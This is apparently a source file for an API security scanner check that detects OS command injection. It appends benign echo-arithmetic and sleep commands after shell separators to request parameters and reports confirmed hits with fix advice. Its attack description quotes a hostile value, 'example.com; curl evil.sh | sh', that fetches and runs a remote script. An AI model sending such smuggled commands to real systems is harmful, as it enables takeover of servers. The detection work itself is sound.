import { defineProbeCheck, type Exchange, type ProbeContext } from '../../../engines/probe/types.ts';
import { echoMarker, SEPARATORS, type Separator, SLEEP_SEPARATORS, sleepCommand } from '../_inject/command.ts';
import { readableText } from '../_inject/compare.ts';
import { describePoint, eachTarget, type InjectionPoint, inject, label, marker, randomInt, type Target } from '../_inject/points.ts';
import { proveDelay, SLEEP_SECONDS } from '../_inject/timing.ts';

/** Sends an echo through `sep`; the exchange when the shell's output (not the request's echo) came back. */
async function echoed(
  ctx: ProbeContext,
  t: Target,
  p: InjectionPoint,
  sep: Separator,
): Promise<{ ex: Exchange; payload: string } | undefined> {
  const m = echoMarker(marker(), randomInt(1000, 4999), randomInt(1000, 4999));
  const payload = sep.wrap(p.original, m.cmd);
  const ex = await inject(ctx, t, p, payload);
  if (!ex?.response || !readableText(ex.response).includes(m.expect)) return undefined;
  return { ex, payload };
}

async function echoBased(ctx: ProbeContext, t: Target, p: InjectionPoint): Promise<boolean> {
  for (const sep of SEPARATORS) {
    if (ctx.signal.aborted) return false;
    const first = await echoed(ctx, t, p, sep);
    if (!first) continue;
    // Again with another marker and other numbers: no cache or coincidence.
    const second = await echoed(ctx, t, p, sep);
    if (!second) continue;
    ctx.report({
      endpoint: t.endpoint,
      messageId: 'echo',
      data: {
        where: describePoint(p),
        endpoint: label(t.endpoint),
        name: p.name,
        technique: 'echo',
        separator: sep.name,
        payload: JSON.stringify(first.payload),
      },
      exchanges: [first.ex, second.ex, t.baseline],
      identities: t.as ? [t.as] : undefined,
      fingerprintKey: p.name,
    });
    return true;
  }
  return false;
}

async function timeBased(ctx: ProbeContext, t: Target, p: InjectionPoint): Promise<boolean> {
  for (const sep of SLEEP_SEPARATORS) {
    if (ctx.signal.aborted) return false;
    const payload = sep.wrap(p.original, sleepCommand(SLEEP_SECONDS));
    const proof = await proveDelay(ctx, t, p, payload, sep.wrap(p.original, sleepCommand(0)));
    if (!proof) continue;
    ctx.report({
      endpoint: t.endpoint,
      messageId: 'sleep',
      data: {
        where: describePoint(p),
        endpoint: label(t.endpoint),
        name: p.name,
        technique: 'time-based',
        separator: sep.name,
        payload: JSON.stringify(payload),
        baseline: proof.baselineMs,
        delay1: proof.delays[0],
        delay2: proof.delays[1],
      },
      exchanges: [...proof.exchanges, t.baseline],
      identities: t.as ? [t.as] : undefined,
      fingerprintKey: p.name,
    });
    return true;
  }
  return false;
}

const FIX =
  'Do not build shell command lines from input: call the program directly with an argument array and no shell (execFile/spawn in Node, subprocess.run([...]) in Python, ProcessBuilder in Java), validate the value against a strict allow-list (a host name, an id), and prefer a library over a command at all.';

export default defineProbeCheck({
  id: 'command-injection',
  title: 'OS command injection',
  severity: 'critical',
  confidence: 'high',
  owasp: ['API8:2023'],
  cwe: ['CWE-78'],
  messages: {
    echo: `{{where}} of {{endpoint}} is run by a shell: the value {{payload}} made the server print the result of the shell arithmetic it carries, twice with other numbers. Anyone can run any command on the server with its rights: read secrets, pivot into the network, take it over. ${FIX}`,
    sleep: `{{where}} of {{endpoint}} is run by a shell: {{payload}} delayed the answer by {{delay1}} ms and again by {{delay2}} ms over the {{baseline}} ms of the valid value, and "sleep 0" did not. Anyone can run any command on the server with its rights, even though the answer shows no output. ${FIX}`,
  },
  defaultOptions: { maxPointsPerEndpoint: 12 },
  docs: {
    description:
      'Appends a harmless second command to every query, path and header parameter and every string field of the JSON body (after ;, |, $( ), a newline or a closing single quote) and reports a value that a shell runs: either the answer contains the result of `echo <marker>$((a+b))` (the sum, which the request itself never contains), twice with other numbers, or `sleep 2` delays the answer by 1.5 s or more over the valid request, twice, while `sleep 0` does not. No other command is ever sent.',
    attack:
      'APIs that wrap system tools (ping, nslookup, convert, ffmpeg, git, zip) often paste a parameter into a command line run by /bin/sh. A value such as "example.com; curl evil.sh | sh" then runs the attacker\'s commands with the service\'s rights: stealing credentials and keys from the environment and disk, reaching internal services, installing a backdoor.',
    fix: `${FIX} Run the service with the least privileges and no secrets in its environment it does not need.`,
  },
  async run(ctx) {
    await eachTarget(ctx, async (t) => {
      for (const p of t.points) {
        if (ctx.signal.aborted) return;
        if (await echoBased(ctx, t, p)) continue;
        await timeBased(ctx, t, p);
      }
    });
  },
});
